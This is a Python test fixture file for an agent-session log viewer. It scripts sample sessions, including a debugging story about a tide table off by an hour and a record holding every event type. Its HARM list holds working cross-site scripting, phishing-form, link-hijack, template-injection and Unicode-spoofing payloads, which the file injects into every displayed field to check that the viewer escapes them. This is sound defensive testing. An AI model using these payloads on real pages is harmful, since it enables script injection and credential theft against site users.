"""Furnished stores: conversations as people have them, every kind of event there is, and content that means harm."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable, Iterable
from typing import Any, Final

import msgspec

import onward
from onward.core import bodies
from onward.core.bodies import Body, Message, ToolCall, ToolResult, Usage
from onward.engines.contract import Capabilities, Turn
from onward.engines.script import Begin, Call, Fail, Measure, Say, ScriptEngine, Step
from onward.service import approving, delegating, machines
from onward.store.contract import Append, Batch

Entry = tuple[str, Body | bytes, str]

WORKSPACE: Final = "/home/ada/code/tidewatch"
PIXEL: Final = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

FIND: Final = "The tide table on the harbour page is an hour early since Sunday. Find out why, please."
FOUND: Final = """\
It is the clock change, and only the *display* is wrong.

The station sends times in UTC. `table.py` adds the offset of the harbour's time zone **once, at start-up**, so since Sunday
it is an hour behind until the service is restarted:

```python
OFFSET = zone.utcoffset(datetime.now())   # read once, kept for ever
```

| station | shown | right |
|---|---|---|
| Pier 4 | 05:12 | 06:12 |
| Outer bar | 04:47 | 05:47 |

The alarms compare UTC with UTC and are not affected."""
DECIDE: Final = (
    "Good find. Keep UTC everywhere inside and convert only where a page is drawn. Port 8417 stays."
)
DECIDED: Final = (
    "Agreed: UTC inside, converted when drawn. I would test both clock changes before I touch it."
)
NEXT: Final = "Yes. That is a piece of work of its own: first the tests, then the change."
HANDED: Final[dict[str, Any]] = {
    "reason": "phase_change",
    "title": "Tide table: tests, then UTC inside",
    "handoff": {
        "purpose": "Write tests around both clock changes, then keep UTC inside and convert when a page is drawn.",
        "current_request": NEXT,
        "established_facts": [
            "The offset of the time zone is read once, at start-up [5] [8].",
            "Alarms compare UTC with UTC and are not affected [5].",
        ],
        "decisions": [
            "UTC everywhere inside, converted only where a page is drawn [9].",
            "Port 8417 stays [9].",
        ],
        "open_questions": ["Does the printed table need the change of this Sunday too?"],
        "next_actions": ["Tests around both clock changes", "Replace OFFSET", "Look at the printed table"],
        "cautions": ["The feed of the outer bar is three minutes late; do not take that for the fault."],
    },
    "sources": ["2-5", "7-9"],
}
TESTED: Final = """\
Both clock changes are tested now, and both tests fail as they should:

1. `test_the_hour_that_is_skipped` shows 06:12 as 05:12.
2. `test_the_hour_that_comes_twice` shows one high tide for two.

Next I replace `OFFSET`."""


def script(steps: dict[str, Iterable[Step]]) -> Callable[[Turn], Iterable[Step]]:
    """Return a script that knows what to do by how the message begins."""
    return lambda turn: next(
        (tuple(found) for begins, found in steps.items() if turn.input.startswith(begins)),
        (Say(text="Done."),),
    )


KEEPS: Final = Capabilities(tools=True, streaming=True, memory=True, window=200_000)


def used(tokens_in: int, tokens_out: int, held: int) -> Measure:
    """Return what a turn used, and what the context holds after it."""
    return Measure(
        usage=Usage(input_tokens=tokens_in, output_tokens=tokens_out, context_tokens=held, window=200_000)
    )


AGENT: Final = ScriptEngine(
    script=script(
        {
            FIND[:20]: (Begin(native_id="tide"), Say(text=FOUND), used(18_400, 2_300, 41_000)),
            DECIDE[:20]: (
                Begin(native_id="tide", resumed=True),
                Say(text=DECIDED),
                used(21_000, 410, 47_500),
            ),
            NEXT[:20]: (
                Begin(native_id="tide", resumed=True),
                Call(name="continue_session", input=HANDED),
            ),
        }
    ),
    capabilities=KEEPS,
)
SUCCESSOR: Final = ScriptEngine(
    script=[Begin(native_id="utc"), Say(text=TESTED), used(5_200, 900, 7_800)], capabilities=KEEPS
)


def saying(text: str) -> ScriptEngine:
    """Return an agent that says this."""
    return ScriptEngine(script=[Say(text=text)])


def earlier(log: onward.Onward, hours: float) -> onward.Onward:
    """Return a log in which it is so many hours ago."""
    clock = log.platform.clock
    return onward.Onward(
        msgspec.structs.replace(log.platform, clock=lambda: clock() - round(hours * 3_600_000_000))
    )


class Furnished(msgspec.Struct, frozen=True, kw_only=True):
    """What there is in a furnished store."""

    origin: str
    successor: str
    manifest: str
    branch: str
    child: str
    every: str
    """A session with every kind of event."""
    failed: str
    """A successor whose first run failed."""
    asking: str
    """A session with a continuation that waits for a person."""
    empty: str


def furnish(log: onward.Onward) -> Furnished:
    """Fill a store with a piece of work and its surroundings. Blocks; not inside an event loop."""
    platform = log.platform
    machines.register(platform, "tower", ())

    broken = earlier(log, 50).start("Alarms at night", workspace="/home/ada/code/alarms", engine="script").id
    earlier(log, 50).run(
        broken, "Why were there two alarms last night?", engine=saying("The horn has two relays.")
    )
    draft = log.draft(broken, "Test both relays of the horn")
    failed = earlier(log, 49).continue_session(broken, draft, key="broken").successor
    overloaded = ScriptEngine(script=[Fail(reason="The provider is overloaded.", retryable=True)])
    earlier(log, 49).run(failed, engine=overloaded)

    every = (
        earlier(log, 30).start("Every kind of event", workspace="/home/ada/code/examples", engine="script").id
    )
    _write(earlier(log, 30), every, _every(log, failed))

    past = earlier(log, 4)
    origin = past.start("Tide table is an hour early", workspace=WORKSPACE, engine="script").id
    past.run(origin, FIND, engine=AGENT)
    _write(past, origin, _tools())
    past.run(origin, DECIDE, engine=AGENT)
    steps = (
        bodies.PlanStep(id="1", text="Find the fault", status="done"),
        bodies.PlanStep(id="2", text="Tests around both clock changes", status="active"),
        bodies.PlanStep(id="3", text="Replace OFFSET"),
    )
    past.set_state(origin, bodies.Plan(revision=1, steps=steps))
    past = earlier(log, 2)
    past.run(origin, NEXT, engine=AGENT, follow=False)
    link = next(one for one in log.lineage(origin).links if one.type == "continuation")
    successor = link.to_session
    past.run(successor, engine=SUCCESSOR, follow=False)
    branch = past.fork(origin, 6, title="Without the library for time zones").id
    past.run(branch, "What would it take without the library?", engine=saying("A table of changes."))
    child = delegating.delegate(
        past.platform, successor, "Printed table", "Look whether the printed table needs the change."
    ).child
    earlier(log, 1.5).run(child, engine=saying("It does: the table of **Pier 4** was printed on Monday."))

    asking = earlier(log, 1).start("Move the archive", workspace=WORKSPACE, engine="script").id
    plan = saying("Three steps, from the oldest year.")
    earlier(log, 1).run(asking, "Plan the move of the archive.", engine=plan)
    cautious = onward.Onward(msgspec.structs.replace(earlier(log, 1).platform, approval="agent"))
    command = {
        "reason": "phase_change",
        "title": "Archive: move it",
        "handoff": {"purpose": "Move the archive."},
    }
    goes_on = ScriptEngine(script=[Call(name="continue_session", input=command)])
    cautious.run(asking, "Go on with it.", engine=goes_on)
    assert approving.approvals(platform, asking)

    return Furnished(
        origin=origin,
        successor=successor,
        manifest=link.manifest_id or "",
        branch=branch,
        child=child,
        every=every,
        failed=failed,
        asking=asking,
        empty=earlier(log, 60).start("", engine="script").id,
    )


def _write(log: onward.Onward, session: str, entries: Iterable[Entry]) -> None:
    platform = log.platform
    events = tuple(platform.event(kind, body, actor) for kind, body, actor in entries)
    platform.store.commit(Batch(appends=(Append(session_id=session, events=events),)))


def _tools() -> list[Entry]:
    grep = {"command": "grep -rn utcoffset src/", "description": "Find where the offset is read"}
    return [
        ("tool_call", ToolCall(call="c1", name="Bash", input=grep), "agent"),
        (
            "tool_result",
            ToolResult(call="c1", output="src/tidewatch/table.py:31:OFFSET = zone.utcoffset(datetime.now())"),
            "agent",
        ),
    ]


def _every(log: onward.Onward, other: str) -> list[Entry]:
    """Return one of each kind, and of each form of context."""
    blob = f"sha256:{hashlib.sha256(PIXEL).hexdigest()}"
    log.platform.store.commit(Batch(blobs=((blob, PIXEL),)))
    reference = bodies.RecalledReference(
        source=other,
        label="tide",
        captured_seq=9,
        original=5,
        retained=2,
        omitted=3,
        omitted_bytes=2048,
        truncated=True,
    )
    parts = (
        bodies.Part(blob=blob, media_type="image/png", name="harbour.png", bytes=len(PIXEL)),
        bodies.Part(blob=f"sha256:{'0' * 64}", media_type="application/pdf", name="tables.pdf", bytes=90_000),
    )
    return [
        (
            "context",
            bodies.Instructions(text="Answer briefly. Never touch the harbour's live feed."),
            "system",
        ),
        ("message", Message(role="user", text="Here is the *picture*, and the tables.", parts=parts), "user"),
        ("message", Message(role="user", text="<command-name>/model</command-name>", aside=True), "user"),
        (
            "reasoning",
            bodies.Reasoning(text="The picture shows the pier, so it is the right station."),
            "agent",
        ),
        ("reasoning", bodies.Reasoning(signature="c2lnbmF0dXJl"), "agent"),
        (
            "tool_call",
            ToolCall(call="a", name="Read", input={"file_path": f"{WORKSPACE}/src/table.py"}),
            "agent",
        ),
        ("tool_result", ToolResult(call="a", output="   31\tOFFSET = zone.utcoffset(now)\n" * 40), "agent"),
        ("tool_call", ToolCall(call="b", name="Bash", input={"command": "make test"}), "agent"),
        ("tool_result", ToolResult(call="b", output="1 failed, 211 passed", status="error"), "agent"),
        ("tool_call", ToolCall(call="c", name="Bash", input={"command": "git push"}), "agent"),
        ("tool_result", ToolResult(call="c", status="outcome_unknown", closer=True), "system"),
        (
            "message",
            Message(role="assistant", text="One test fails: `test_the_hour_that_is_skipped`."),
            "agent",
        ),
        ("message", Message(role="user", text="Stop, look at the other file first.", steering=True), "user"),
        ("message", Message(role="assistant", text="I was about to", interrupted=True), "agent"),
        ("terminal", bodies.Terminal(text="$ make test\n1 failed, 211 passed in 4.2 s"), "agent"),
        ("command", bodies.Command(text="/compact"), "user"),
        ("outcome", bodies.Outcome(text="exit 1", status="failed"), "agent"),
        (
            "checkpoint",
            bodies.Checkpoint(text="## So far\n\nThe offset is read once.", first_seq=2, last_seq=9),
            "agent",
        ),
        (
            "plan",
            bodies.Plan(
                revision=1,
                steps=(
                    bodies.PlanStep(id="1", text="Find the fault", status="done"),
                    bodies.PlanStep(id="2", text="Replace OFFSET"),
                ),
            ),
            "agent",
        ),
        (
            "pins",
            bodies.Pins(
                revision=1,
                pins=(
                    bodies.Pin(kind="tool", name="Bash"),
                    bodies.Pin(kind="resource", name="docs/tides.md", version="3"),
                ),
            ),
            "agent",
        ),
        ("approval", bodies.Approval(state="requested", subject="rm -r build"), "agent"),
        ("approval", bodies.Approval(state="denied", subject="rm -r build", note="Not now."), "user"),
        (
            "session",
            bodies.SessionChange(change="opening", opening="resumed", engine="claude-code"),
            "system",
        ),
        ("session", bodies.SessionChange(change="renamed", title="Every kind of event"), "user"),
        ("recalled", bodies.Recalled(how="search", query="offset", returned=(f"{other}:4",)), "agent"),
        (
            "context",
            bodies.Notice(summary="The engine's process was put to sleep after six hours."),
            "system",
        ),
        (
            "context",
            bodies.Snapshot(
                sections=(
                    bodies.Section(name="git", text="On branch main, clean"),
                    bodies.Section(name="files", text="src/table.py\nsrc/feed.py"),
                )
            ),
            "system",
        ),
        ("context", bodies.Relay(sender=other, text="The feed is three minutes late."), "agent"),
        (
            "context",
            bodies.Recall(references=(reference,), text="Quoted from “Tide table is an hour early”."),
            "user",
        ),
        (
            "context",
            bodies.ProjectionContext(manifest="man_00000000000000000000000000", text="# Continuation"),
            "system",
        ),
        ("context", bodies.BriefContext(rows=3, text="three rows", scope="workspace"), "system"),
        ("context", bodies.Opaque(text="what a provider did not explain"), "system"),
        ("raw", b'{"type":"queue-operation","operation":"enqueue"}', "system"),
        ("hologram", b'{"x":1}', "agent"),
        ("message", b"not json", "agent"),
    ]


FLAG: Final = "ranHere"
HARM: Final = tuple(
    text.replace("RUN", f"window.{FLAG}=1")
    for text in (
        "<script>RUN</script>",
        "</pre></article></main><script>RUN</script>",
        '<img src=x onerror="RUN">',
        '"><svg onload="RUN">',
        "' onfocus='RUN' autofocus tabindex=1 '",
        "<style>*{display:none!important}</style>",
        '<link rel=stylesheet href="http://192.0.2.1/x.css">',
        '<p style="position:fixed;inset:0;background:url(http://192.0.2.1/x)">covering</p>',
        '<base href="http://192.0.2.1/">',
        '<form action="http://192.0.2.1/"><input name=password autofocus><button>Sign in</button></form>',
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe><iframe src=http://192.0.2.1></iframe>",
        '<object data="http://192.0.2.1/x"></object><embed src="http://192.0.2.1/x">',
        "<a href='javascript:RUN'>press</a> [press](javascript:RUN) [press](JaVaScRiPt:RUN) [press](&#106;avascript:RUN)",
        "[press](data:text/html;base64,PHNjcmlwdD4=) [press](vbscript:RUN) [press](//192.0.2.1/login) [out](/logout)",
        "![pixel](http://192.0.2.1/pixel.png) ![pixel](data:image/svg+xml,<svg/onload=RUN>) ![x](/logout)",
        '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
        "<div hx-get='/logout' hx-trigger='load' hx-on:load='RUN' data-hx-post='/logout'>x</div>",
        '<video src="http://192.0.2.1/v" autoplay></video><audio src=x onerror="RUN"></audio>',
        '<details open ontoggle="RUN">x</details><marquee onstart="RUN">x</marquee>',
        "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
        "<template><script>RUN</script></template><noscript><img src=x onerror=RUN></noscript>",
        '<h3 id="main" name="news">x</h3><textarea id="text" name="text"></textarea><input id="csrf" name="csrf">',
        "```html\n</code></pre><script>RUN</script>\n```",
        "| a |\n|---|\n| <script>RUN</script> |",
        "{{ 7 * 7 }} ${RUN} <%= RUN %> {% include '/etc/passwd' %}",
        "\u202egnp.exe\u202c \u2066\u2067\u2068 deep \u2069 \u200f\u061c over",
        "\x1b]0;title\x07\x1b[2J\x9b31m\x08\x7f\x00 control",
        "zero\u200b\u2060\ufeff\u00adwidth \U000e0041\U000e0042",
        "lone \ud800 and \udfff",
        "Z\u0351\u036b\u0343" + "\u0334\u0335\u0336\u0337" * 40 + "algo",
        "longword" * 4_000,
        "[" * 3_000,
        "> " * 1_500 + "deep",
        "![](" * 1_500,
    )
)
LINE: Final = "a line without an end, " * 47_000
"""More than a megabyte."""


def harmful(log: onward.Onward) -> list[str]:
    """Write what means harm into every place that a page shows; return the sessions that have most of it."""
    sessions = []
    for number, text in enumerate(HARM):
        title = text.replace("\x00", "")[:110] if number % 3 == 0 else f"Harm {number}"
        session = log.start(
            title, workspace=f"/tmp/{text[:60]}" if number == 2 else WORKSPACE, engine="script"
        )
        sessions.append(session.id)
    for first in range(0, len(HARM), 12):
        chosen = HARM[first : first + 12]
        _write(
            log,
            sessions[first],
            [entry for n, text in enumerate(chosen) for entry in _everywhere(log, text, n)],
        )
    _write(
        log,
        sessions[1],
        [
            ("message", Message(role="user", text=LINE), "user"),
            ("tool_call", ToolCall(call="l", name="Read", input={"file_path": LINE[:2000]}), "agent"),
            ("tool_result", ToolResult(call="l", output=LINE), "agent"),
        ],
    )
    return [sessions[n] for n in range(0, len(HARM), 12)] + [sessions[1]]


def _everywhere(log: onward.Onward, text: str, number: int) -> list[Entry]:
    blob = f"sha256:{hashlib.sha256(PIXEL).hexdigest()}"
    part = bodies.Part(blob=blob, media_type="image/svg+xml" if number % 2 else "image/png", name=text[:300])
    call = f"call {number}"
    return [
        ("message", Message(role="user", text=text, parts=(part,)), "user"),
        ("message", Message(role="assistant", text=text, model=text[:80]), "agent"),
        (
            "tool_call",
            ToolCall(call=call, name=text[:200], input={text[:100]: text, "file_path": text[:400]}),
            "agent",
        ),
        ("tool_result", ToolResult(call=call, output={"text": text}, parts=(part,)), "agent"),
        ("reasoning", bodies.Reasoning(text=text), "agent"),
        ("terminal", bodies.Terminal(text=text), "agent"),
        ("context", bodies.Notice(summary=bodies.notice_summary(text), text=text), "system"),
        ("context", bodies.Snapshot(sections=(bodies.Section(name=text[:200], text=text),)), "system"),
        ("context", bodies.Opaque(text=text), "system"),
        ("checkpoint", bodies.Checkpoint(text=text), "agent"),
    ]


def handed_harm(log: onward.Onward) -> str:
    """Continue a session with a handoff that means harm in every field; return the successor."""
    session = log.start("Harm is handed over", engine="script").id
    _write(
        log,
        session,
        [
            ("message", Message(role="user", text="Go on."), "user"),
            ("message", Message(role="assistant", text=HARM[0]), "agent"),
        ],
    )
    texts = [text.replace("\x00", "") for text in HARM if len(text) < 2_000]
    command = {
        "reason": "other",
        "title": HARM[2][:120],
        "description": HARM[4],
        "handoff": {
            "purpose": " ".join(texts[:3]),
            "current_request": texts[3],
            "established_facts": texts[:10],
            "decisions": texts[10:16],
            "open_questions": texts[16:22],
            "next_actions": texts[22:],
            "cautions": texts[:4],
            HARM[2][:100]: texts[:3],
        },
        "sources": [
            "2-3",
            {"kind": "resource", "uri": "https://example.invalid/<script>", "relevance": HARM[0]},
        ],
    }
    return log.continue_session(session, command, key="harm").successor


def lengthen(log: onward.Onward, session: str, count: int) -> None:
    """Write messages until a session has this many events."""
    platform = log.platform
    head = log.session(session).head_seq
    while head < count:
        upto = min(count, head + 2_000)
        events = tuple(
            platform.event(
                "message",
                Message(role="user" if n % 2 else "assistant", text=f"Line {n}: the tide at pier 4"),
                "user" if n % 2 else "agent",
            )
            for n in range(head + 1, upto + 1)
        )
        platform.store.commit(Batch(appends=(Append(session_id=session, events=events),)))
        head = upto
